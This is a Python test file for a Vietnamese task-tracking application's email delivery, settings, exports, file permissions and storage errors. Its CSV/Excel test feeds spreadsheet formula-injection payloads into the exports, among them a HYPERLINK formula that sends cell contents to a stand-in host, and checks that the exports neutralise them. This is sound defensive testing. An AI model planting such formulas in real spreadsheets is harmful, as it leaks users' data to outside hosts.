"""Delivery and operations faults found by living with the system (issues 13.7 and 14):
the email's own text part, one sender for every email, a refused SMTP login, re-queueing,
settings that cannot spin a run, Zalo removed, CSV/Excel formulas, private files, a broken
database file.

Mail goes through the real SMTP test server; each received message is read from its raw
bytes, as a mail client would.
"""

from __future__ import annotations

import datetime as dt
import email
import email.header
import email.policy
import io
import re
import sqlite3
import stat
import subprocess
import sys
import zipfile
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jinja2
import pytest
from sqlalchemy import delete, text, update
from sqlalchemy.engine import Engine
from sqlmodel import Session, col, select

from models.enums import Channel, DeliveryStatus
from models.tables import Activity, Assignment, Contact, Department, OutboxMessage
from notifications import mail
from notifications.delivery import deliver
from tests.conftest import REPO, cli_env
from tests.smtp_server import SmtpTestServer
from tests.test_delivery import DAY, LATER, all_rows, an_giang_with_reminders, smtp_settings
from tracking import outbox, store
from tracking.settings import Settings, SettingsError, get_settings

SMTP_USER = "thongbao@sonv.angiang.gov.vn"
SMTP_PASSWORD = "mat-khau-moi-2024"


@pytest.fixture
def smtp() -> Iterator[SmtpTestServer]:
    with SmtpTestServer() as server:
        yield server


@pytest.fixture
def smtp_auth() -> Iterator[SmtpTestServer]:
    with SmtpTestServer(user=SMTP_USER, password=SMTP_PASSWORD) as server:
        yield server


def giaoviec(home: Path, url: str, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "cli", *args],
        env=cli_env(home, url, COLUMNS="200", **env),
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=120,
    )


def _comparable(raw: bytes) -> list[tuple[str, ...]]:
    """A message as a reader sees it, without what differs between two builds of it: Date,
    Message-ID, the random MIME boundaries and the one-click links' tokens (each build signs
    fresh ones). Every header as written, every part's headers and decoded content."""
    message = email.message_from_bytes(raw.replace(b"\r\n", b"\n"), policy=email.policy.compat32)
    seen: list[tuple[str, ...]] = []
    for part in message.walk():
        for name, value in part.items():
            if name not in ("Date", "Message-ID"):
                seen.append((name, re.sub(r'boundary="[^"]+"', "boundary", str(value))))
        if not part.is_multipart():
            content = part.get_payload(decode=True).decode("utf-8")  # type: ignore[union-attr]
            seen.append(("content", re.sub(r"(/[a-z]+/)[\w.-]{20,}", r"\1TOKEN", content)))
    return seen


def _decoded(header: str) -> str:
    """A header as an RFC 2047 reader shows it (the whitespace between two encoded-words
    ignored, as RFC 2047 §6.2 says and mail clients do)."""
    return str(email.header.make_header(email.header.decode_header(header)))


# --- 13.7: the email's own text part, the same message sent or written -------------------


def test_sent_email_is_the_eml_fallback_with_our_text_part_and_named_recipient(
    session: Session,
    clean_engine: Engine,
    smtp: SmtpTestServer,
    home: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("GIAOVIEC_PUBLIC_URL", "https://giaoviec.angiang.gov.vn")
    rows = an_giang_with_reminders(session)
    sent = deliver(clean_engine, smtp_settings(smtp), LATER)
    assert sent.counts == Counter({"sent": len(rows)})
    # The same messages again, through the embedded default (no SMTP host): .eml files.
    session.execute(update(OutboxMessage).values(status=DeliveryStatus.PENDING, attempts=0))
    session.commit()
    no_smtp = Settings(home=home, smtp_from="tdkt@example.gov.vn")
    assert deliver(clean_engine, no_smtp, LATER).counts == Counter({"sent": len(rows)})
    files = {int(p.name.split("-")[0]): p for p in no_smtp.outbox_folder.rglob("*.eml")}
    assert len(files) == len(smtp.messages) == len(rows)
    for received in smtp.messages:
        message_id = str(received.message["Message-ID"])
        row_id = int(re.search(r"giaoviec-(\d+)", message_id).group(1))  # type: ignore[union-attr]
        assert _comparable(received.raw) == _comparable(files[row_id].read_bytes())

    # Read one as the officer's mail client shows it.
    received = next(m for m in smtp.messages if "quá hạn" in _decoded(m.message["Subject"]))
    raw = received.raw.decode("ascii")
    parsed = email.message_from_bytes(received.raw, policy=email.policy.compat32)
    contact = session.exec(select(Contact).where(Contact.email == received.rcpt_tos[0])).first()
    assert contact is not None
    to_header = raw.split("\nTo:", 1)[1].split("\nDate:", 1)[0]
    assert "=?utf-8?b?" in to_header  # the Vietnamese name as RFC 2047 encoded-words
    assert [line for line in raw.splitlines() if len(line.rstrip("\r")) > 78] == []
    assert _decoded(str(parsed["To"])) == f"{contact.name} <{contact.email}>"
    assert _decoded(str(parsed["From"])) == "Ban Thi đua - Khen thưởng <tdkt@example.gov.vn>"
    plain = received.message.get_body(("plain",))
    html = received.message.get_body(("html",))
    assert plain is not None and html is not None
    text_part = str(plain.get_content())
    # Our template's "label: URL" lines, not Apprise's conversion of the buttons to words.
    links = re.findall(r"^(.+): (https://giaoviec\.angiang\.gov\.vn/\S+)$", text_part, re.M)
    assert links, text_part
    assert all(url in str(html.get_content()) for _, url in links)
    assert "Kính gửi" in text_part


# --- 14 low: one sender for every email --------------------------------------------------


def test_every_email_has_the_one_sender_even_without_smtp_from(
    session: Session,
    clean_engine: Engine,
    smtp: SmtpTestServer,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Reminders and the weekly report (with its Excel file) leave From one address, also
    when GIAOVIEC_SMTP_FROM is unset (the weekly report used to fail: "unusable mailto://")."""
    from tracking import clock, reminders

    for name, value in smtp.env().items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("GIAOVIEC_SMTP_FROM")  # unset, as in the report of the fault
    get_settings.cache_clear()
    settings = get_settings()
    assert mail.sender(settings) == ("Ban Thi đua - Khen thưởng", "giaoviec@localhost")
    an_giang_with_reminders(session)
    plan = store.get_plan(session, "an-giang-2024-hoi-nghi-thi-dua")
    monday = dt.date(2024, 3, 4)
    enqueued = reminders.enqueue_weekly(
        session, plan, monday, clock.now_for(monday), store.load_calendar(session), settings
    )
    session.commit()
    assert enqueued.added >= 1
    deliver(clean_engine, settings, LATER + dt.timedelta(days=5))
    senders = {_decoded(str(m.message["From"])) for m in smtp.messages}
    assert senders == {"Ban Thi đua - Khen thưởng <giaoviec@localhost>"}
    assert {m.mail_from for m in smtp.messages} == {"giaoviec@localhost"}
    weekly = [m for m in smtp.messages if "Báo cáo tuần" in _decoded(str(m.message["Subject"]))]
    assert weekly, [_decoded(str(m.message["Subject"])) for m in smtp.messages]
    names = [a.get_filename() for a in weekly[0].message.iter_attachments()]
    assert len(names) == 1 and str(names[0]).endswith(".xlsx"), names


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        ({"smtp_from": "tdkt@sonv.vn", "smtp_user": "u@x.vn"}, "tdkt@sonv.vn"),
        ({"smtp_user": "thongbao@sonv.vn", "smtp_host": "mail.sonv.vn"}, "thongbao@sonv.vn"),
        ({"smtp_user": "thongbao", "smtp_host": "Mail.SoNV.vn"}, "giaoviec@mail.sonv.vn"),
        ({"smtp_host": "10.0.0.5"}, "giaoviec@localhost"),
        ({}, "giaoviec@localhost"),
    ],
)
def test_sender_address_rule(values: dict[str, str], expected: str) -> None:
    assert mail.sender(Settings.model_validate(values))[1] == expected


# --- 14.3: a refused login keeps the mail, alerts, and a fix sends it ----------------------


def test_wrong_smtp_password_keeps_the_mail_queued_and_alerts_the_operator(
    session: Session,
    clean_engine: Engine,
    smtp_auth: SmtpTestServer,
    home: Path,
    database_url: str,
) -> None:
    rows = an_giang_with_reminders(session)
    wrong = smtp_settings(smtp_auth, smtp_user=SMTP_USER, smtp_password="mat-khau-cu")
    report = deliver(clean_engine, wrong, LATER)
    assert report.setup_failed and "535" in report.setup_failed
    assert report.counts == Counter({"pending": len(rows)})
    after = all_rows(session)
    assert {r.status for r in after} == {DeliveryStatus.PENDING}
    assert {r.attempts for r in after} == {0}  # nobody's fault: no attempt used up
    assert smtp_auth.messages == []
    [alert] = outbox.delivery_alerts(session)
    assert alert.channel == "email" and "535" in alert.detail and alert.waiting == len(rows)
    banner = outbox.alert_banner(session)
    assert banner is not None and "Không gửi được email" in banner
    pages = jinja2.Environment(
        loader=jinja2.FileSystemLoader(REPO / "web" / "templates"), autoescape=True
    )
    shown_on_web = pages.get_template("_delivery_alert.html").render(delivery_alert=banner)
    assert 'role="alert"' in shown_on_web and "535" in shown_on_web
    assert pages.get_template("_delivery_alert.html").render().strip() == ""

    shown = giaoviec(home, database_url, "outbox", "--status", "pending", "--limit", "1")
    assert shown.returncode == 0, shown.stderr
    assert "Cảnh báo" in shown.stderr and "535" in shown.stderr

    # A run a day later with the wrong password still loses nothing…
    assert deliver(clean_engine, wrong, LATER + dt.timedelta(days=1)).setup_failed
    assert {r.status for r in all_rows(session)} == {DeliveryStatus.PENDING}
    # …and once the password is fixed, everything goes, once, and the alert is gone.
    fixed = smtp_settings(smtp_auth, smtp_user=SMTP_USER, smtp_password=SMTP_PASSWORD)
    # The operator fixes the setting and runs `deliver` at once: nothing waits for a backoff.
    done = deliver(clean_engine, fixed, LATER + dt.timedelta(days=1))
    assert done.counts == Counter({"sent": len(rows)}) and done.setup_failed is None
    assert len(smtp_auth.messages) == len(rows)
    assert outbox.delivery_alerts(session) == [] and outbox.alert_banner(session) is None


def test_requeue_puts_failed_messages_of_a_day_back_and_refuses_bad_input(
    session: Session,
    clean_engine: Engine,
    smtp: SmtpTestServer,
    home: Path,
    database_url: str,
) -> None:
    rows = an_giang_with_reminders(session)
    victim = str(store.outbox_view(session, rows[0])["address"])
    smtp.reject(victim)  # e.g. a mailbox that was full, since fixed
    deliver(clean_engine, smtp_settings(smtp), LATER)
    failed = [r for r in all_rows(session) if r.status is DeliveryStatus.FAILED]
    assert failed
    kinds = Counter(r.kind for r in failed if r.day == DAY)

    def snapshot() -> list[tuple[Any, ...]]:
        session.expire_all()
        return [(r.id, r.status, r.attempts, r.next_attempt_at) for r in all_rows(session)]

    before = snapshot()
    for args, complaint in (
        ((), "--day"),
        (("--day", "31/02/2024"), "--day"),
        (("--kind", "nhac-viec"), "--kind"),
        (("--day", "04/03/2024", "--status", "sent"), "--status"),
    ):
        result = giaoviec(home, database_url, "outbox", "requeue", *args)
        assert result.returncode == 2, (args, result.stdout, result.stderr)
        assert complaint in result.stderr and "Traceback" not in result.stderr
        assert snapshot() == before

    kind = next(iter(kinds))
    result = giaoviec(
        home, database_url, "outbox", "requeue", "--day", "04/03/2024", "--kind", kind.value
    )
    assert result.returncode == 0, result.stderr
    assert f"Đã đưa lại {kinds[kind]} tin" in result.stdout
    again = [r for r in all_rows(session) if r.id in {f.id for f in failed}]
    assert Counter(r.status for r in again) == Counter(
        {DeliveryStatus.PENDING: kinds[kind], DeliveryStatus.FAILED: len(failed) - kinds[kind]}
    )
    history = session.exec(select(Activity).where(Activity.action == "message_requeued")).all()
    assert len(history) == kinds[kind] and all(a.actor == "kiem-thu" for a in history)
    smtp.accept_all()
    smtp.clear()
    report = deliver(clean_engine, smtp_settings(smtp), LATER + dt.timedelta(hours=1))
    assert report.counts == Counter({"sent": kinds[kind]})
    assert [m.rcpt_tos[0] for m in smtp.messages] == [victim] * kinds[kind]


# --- 14 low: settings that cannot spin a run; one attempt per message per run -------------


def test_a_zero_backoff_is_refused_in_vietnamese(home: Path, database_url: str) -> None:
    result = giaoviec(home, database_url, "outbox", GIAOVIEC_DELIVERY_BACKOFF_SECONDS="0")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "GIAOVIEC_DELIVERY_BACKOFF_SECONDS: phải từ 5.0 trở lên" in result.stderr


def test_every_bad_setting_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GIAOVIEC_DELIVERY_MAX_ATTEMPTS", "0")
    monkeypatch.setenv("GIAOVIEC_SMTP_PORT", "hai-lăm")
    get_settings.cache_clear()
    with pytest.raises(SettingsError) as error:
        get_settings()
    get_settings.cache_clear()
    assert "GIAOVIEC_DELIVERY_MAX_ATTEMPTS: phải từ 1 trở lên (đang là 0)" in str(error.value)
    assert "GIAOVIEC_SMTP_PORT: phải là số nguyên (đang là “hai-lăm”)" in str(error.value)


def test_a_run_tries_each_message_once_whatever_the_backoff(
    session: Session, clean_engine: Engine, smtp: SmtpTestServer
) -> None:
    rows = an_giang_with_reminders(session)
    for row in rows:
        smtp.defer(str(store.outbox_view(session, row)["address"]))  # 451 for everyone
    # A backoff of 0 cannot be configured any more; a run must hold even if it were.
    settings = smtp_settings(smtp).model_copy(update={"delivery_backoff_seconds": 0.0})
    report = deliver(clean_engine, settings, LATER)
    assert report.handled == len(rows)
    assert {r.attempts for r in all_rows(session)} == {1}
    assert {r.status for r in all_rows(session)} == {DeliveryStatus.PENDING}
    history = session.exec(select(Activity).where(col(Activity.action).like("message_%"))).all()
    assert len(history) <= 2 * len(rows)  # an outcome, at most a postponement: no spinning


# --- 14 low: a Zalo message queued before Zalo was removed goes by email ------------------


def test_zalo_removed_after_queueing_falls_back_to_email(
    session: Session, clean_engine: Engine, smtp: SmtpTestServer
) -> None:
    rows = an_giang_with_reminders(session)
    contact = session.get(Contact, rows[0].contact_id)
    assert contact is not None and contact.email
    # As the sweep left it while Zalo was configured: a Zalo copy of the first reminder.
    zalo = rows[0].model_dump(exclude={"id"})
    zalo.update(channel=Channel.ZALO, status=DeliveryStatus.PENDING, attempts=0)
    # Zalo took the place of email for this person: only the Zalo row is queued.
    session.execute(delete(OutboxMessage))
    session.add(OutboxMessage(**zalo))
    session.commit()
    report = deliver(clean_engine, smtp_settings(smtp), LATER)  # no Zalo settings now
    after = all_rows(session)
    [chat] = [r for r in after if r.channel is Channel.ZALO]
    assert chat.status is DeliveryStatus.FAILED and "AssertionError" not in (chat.last_error or "")
    [copy] = [r for r in after if r.fallback_of_id == chat.id]
    assert copy.channel is Channel.EMAIL and copy.status is DeliveryStatus.SENT
    assert [m.rcpt_tos[0] for m in smtp.messages] == [contact.email]
    assert report.counts == Counter({"failed": 1, "sent": 1})


# --- 14 low: formulas in CSV and Excel ----------------------------------------------------


def test_status_csv_and_excel_never_hold_a_formula(session: Session, clean_engine: Engine) -> None:
    from tracking.reports.csv_export import status_csv
    from tracking.reports.xlsx import build_status_workbook, workbook_bytes

    an_giang_with_reminders(session)
    payloads = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\tx"]
    assignments = session.exec(select(Assignment).order_by(col(Assignment.id))).all()
    for row, payload in zip(assignments, payloads, strict=False):
        row.title = payload
        session.add(row)
    # A unit named like a formula (a plan file can say anything): its name starts a cell.
    lead = session.get(Department, assignments[0].lead_department_id)
    assert lead is not None
    lead.name = payloads[0]
    session.add(lead)
    session.commit()
    views = store.plan_status(session, dt.date(2024, 3, 4), None)
    import csv

    cells = [c for r in csv.reader(io.StringIO(status_csv(views)[1:])) for c in r]
    for payload in payloads:
        assert "'" + payload in cells and payload not in cells
    data = workbook_bytes(build_status_workbook(session, dt.date(2024, 3, 4), None))
    # Read as Excel would: the sheets' XML (openpyxl itself turns "=…" back into a formula
    # when it loads a file, so it cannot tell).
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/")]
    assert all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets)
    assert b"<t>=HYPERLINK(" in b"".join(sheets)  # the unit's name, kept as text


# --- 14 low: private files ----------------------------------------------------------------


def test_home_files_are_private(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    url = f"sqlite:///{home / 'giaoviec.db'}"
    monkeypatch.setenv("GIAOVIEC_SECRET_KEY", "k" * 40)
    # What an older version left: a readable home and an empty database file.
    home.mkdir()
    home.chmod(0o755)
    (home / "giaoviec.db").touch()
    (home / "giaoviec.db").chmod(0o644)
    # A lax umask, as on many servers: the files must be private anyway.
    env = {"GIAOVIEC_TODAY": "04/03/2024"}
    prefix = ["sh", "-c", 'umask 022 && exec "$0" "$@"', sys.executable, "-m", "cli"]

    def run(*args: str) -> None:
        done = subprocess.run(
            [*prefix, *args],
            env=cli_env(home, url, **env),
            cwd=REPO,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode == 0, (args, done.stdout, done.stderr)

    run("init")
    run("plan", "set-event-date", "an-giang-2024-hoi-nghi-thi-dua", "15/03/2024")
    run("plan", "activate", "an-giang-2024-hoi-nghi-thi-dua", "--today", "01/02/2024")
    evidence = tmp_path / "bao-cao.pdf"
    evidence.write_bytes(b"%PDF-1.4 bao cao")
    run("submit", "VP-01", "--evidence", str(evidence), "--today", "04/03/2024")
    run("deliver", "--today", "04/03/2024")
    files = [p for p in home.rglob("*") if p.is_file()]
    folders = [home, *(p for p in home.rglob("*") if p.is_dir())]
    assert any(p.suffix == ".eml" for p in files) and any(p.suffix == ".pdf" for p in files)
    assert any(p.name == "giaoviec.db" for p in files)
    lax = [p for p in files if stat.S_IMODE(p.stat().st_mode) & 0o077]
    assert lax == []
    assert [p for p in folders if stat.S_IMODE(p.stat().st_mode) != 0o700] == []


# --- 14 low: a broken database file or a full disk ------------------------------------------


def test_corrupt_database_file_gets_a_message_naming_it(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    database = home / "giaoviec.db"
    database.write_bytes(b"day khong phai la co so du lieu " * 200)
    result = giaoviec(home, f"sqlite:///{database}", "status")
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "bị hỏng" in result.stderr and "giaoviec.db" in result.stderr


def test_full_disk_gets_a_message_naming_the_file(tmp_path: Path) -> None:
    from sqlalchemy import create_engine
    from sqlalchemy.exc import OperationalError

    from cli.main import storage_problem

    small = create_engine(f"sqlite:///{tmp_path / 'day.db'}")
    with pytest.raises(OperationalError) as full, small.begin() as connection:
        connection.execute(text("CREATE TABLE t (x TEXT)"))
        connection.execute(text("PRAGMA max_page_count = 3"))  # a disk with 3 pages left
        connection.execute(text("INSERT INTO t VALUES (:x)"), {"x": "x" * 100_000})
    assert isinstance(full.value.orig, sqlite3.OperationalError)
    problem = storage_problem(full.value)
    assert problem is not None and problem.startswith("hết dung lượng đĩa khi ghi")
    with pytest.raises(OSError) as no_space, open("/dev/full", "wb") as device:  # noqa: PTH123
        device.write(b"x")
        device.flush()
    assert storage_problem(no_space.value) is not None
    assert storage_problem(ValueError("x")) is None
